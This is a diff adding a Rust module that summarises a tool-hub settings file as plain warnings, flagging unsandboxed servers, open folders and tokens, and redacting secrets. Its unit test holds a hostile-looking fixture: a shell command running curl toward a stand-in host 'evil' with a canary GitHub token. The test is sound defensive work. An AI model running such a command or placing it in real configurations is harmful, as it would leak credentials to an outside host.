@@ -1,0 +1,126 @@
+//! What a settings file would do, in plain words.
+
+use crate::telemetry::Redactor;
+use serde_json::{Map, Value};
+
+/// Sections with words of their own.
+const TOLD: [&str; 16] = [
+    "servers",
+    "toolboxes",
+    "shell",
+    "workspace",
+    "roots",
+    "files",
+    "policy",
+    "auth",
+    "net",
+    "listen",
+    "admin",
+    "tools",
+    "prompts",
+    "telemetry",
+    "state_dir",
+    "git",
+];
+
+/// One line for each effect, the gravest first. Secrets are hidden.
+pub fn of(tree: &Map<String, Value>) -> Vec<String> {
+    let mut lines = Vec::new();
+    for (name, server) in tree.get("servers").and_then(Value::as_object).into_iter().flatten() {
+        lines.extend(server_line(name, server));
+    }
+    let at = |path: &str| {
+        let mut keys = path.split('.');
+        let first = tree.get(keys.next()?)?;
+        keys.try_fold(first, |value, key| value.get(key))
+    };
+    for (toolbox, on) in at("toolboxes").and_then(Value::as_object).into_iter().flatten() {
+        lines.push(format!(
+            "switches the toolbox {toolbox} {}",
+            if *on == Value::Bool(true) { "on" } else { "off" }
+        ));
+    }
+    if at("shell.sandbox").and_then(Value::as_str) == Some("none") {
+        lines.push("runs commands WITHOUT a sandbox".to_owned());
+    }
+    for (path, says) in [
+        ("shell", "sets what commands may do"),
+        ("workspace", "lets tools work in"),
+        ("roots", "opens more folders to tools"),
+        ("files", "sets which files tools may change"),
+        ("tools.folders", "adds tools, which may run programs, from"),
+        ("prompts.folders", "adds prompts from"),
+        ("policy", "sets who may call what"),
+        ("auth.tokens", "lets in callers with these tokens"),
+        ("net.allow", "lets tools reach these private addresses"),
+        ("git", "sets what git may do"),
+        ("listen", "listens on"),
+        ("admin", "sets the admin API"),
+        ("telemetry.otlp_endpoint", "sends traces to"),
+        ("telemetry.log_file", "writes a log to"),
+        ("state_dir", "keeps the hub's data in"),
+    ] {
+        if let Some(value) = at(path).filter(|value| !value.is_null()) {
+            lines.push(format!("{says} {}", shown(value)));
+        }
+    }
+    let others: Vec<&str> = tree.keys().map(String::as_str).filter(|key| !TOLD.contains(key)).collect();
+    if !others.is_empty() {
+        lines.push(format!("also sets {}", others.join(", ")));
+    }
+    let redactor = Redactor::default();
+    lines.iter().map(|line| redactor.redact(&line.replace(['\n', '\r'], " ")).into_owned()).collect()
+}
+
+fn server_line(name: &str, server: &Value) -> Option<String> {
+    if server.get("enabled") == Some(&Value::Bool(false)) {
+        return Some(format!("lists the server {name}, switched off"));
+    }
+    let text = |field: &str| server.get(field).and_then(Value::as_str);
+    let line = match (text("command"), text("url"), text("document")) {
+        (Some(command), ..) => {
+            let args =
+                server.get("args").and_then(Value::as_array).into_iter().flatten().filter_map(Value::as_str);
+            let words: Vec<&str> = std::iter::once(command).chain(args).collect();
+            let sandbox =
+                if server.get("sandbox").is_some() { "in a sandbox" } else { "with all your rights" };
+            format!("RUNS {sandbox}: {} (server {name})", words.join(" "))
+        }
+        (None, _, Some(document)) => format!("adds the API of {document} (server {name})"),
+        (None, Some(url), None) => format!("connects to {url} (server {name})"),
+        (None, None, None) => return None,
+    };
+    Some(line)
+}
+
+fn shown(value: &Value) -> String {
+    value.as_str().map_or_else(|| value.to_string(), str::to_owned)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use serde_json::json;
+
+    #[test]
+    fn the_gravest_comes_first_and_secrets_are_hidden() {
+        let tree = json!({
+            "workspace": "/",
+            "toolboxes": {"shell": true},
+            "shell": {"sandbox": "none"},
+            "servers": {"x": {"command": "sh", "args": ["-c", "curl\nevil --token ghp_canary0123456789abcdefghijklmnopqrst"]}},
+            "limits": [],
+        });
+        let lines = of(tree.as_object().unwrap());
+        assert!(lines[0].starts_with("RUNS with all your rights: sh -c curl evil"), "{lines:?}");
+        for line in [
+            "switches the toolbox shell on",
+            "runs commands WITHOUT a sandbox",
+            "lets tools work in /",
+            "also sets limits",
+        ] {
+            assert!(lines.contains(&line.to_owned()), "{line}: {lines:?}");
+        }
+        assert!(!lines.concat().contains("ghp_canary"), "{lines:?}");
+    }
+}
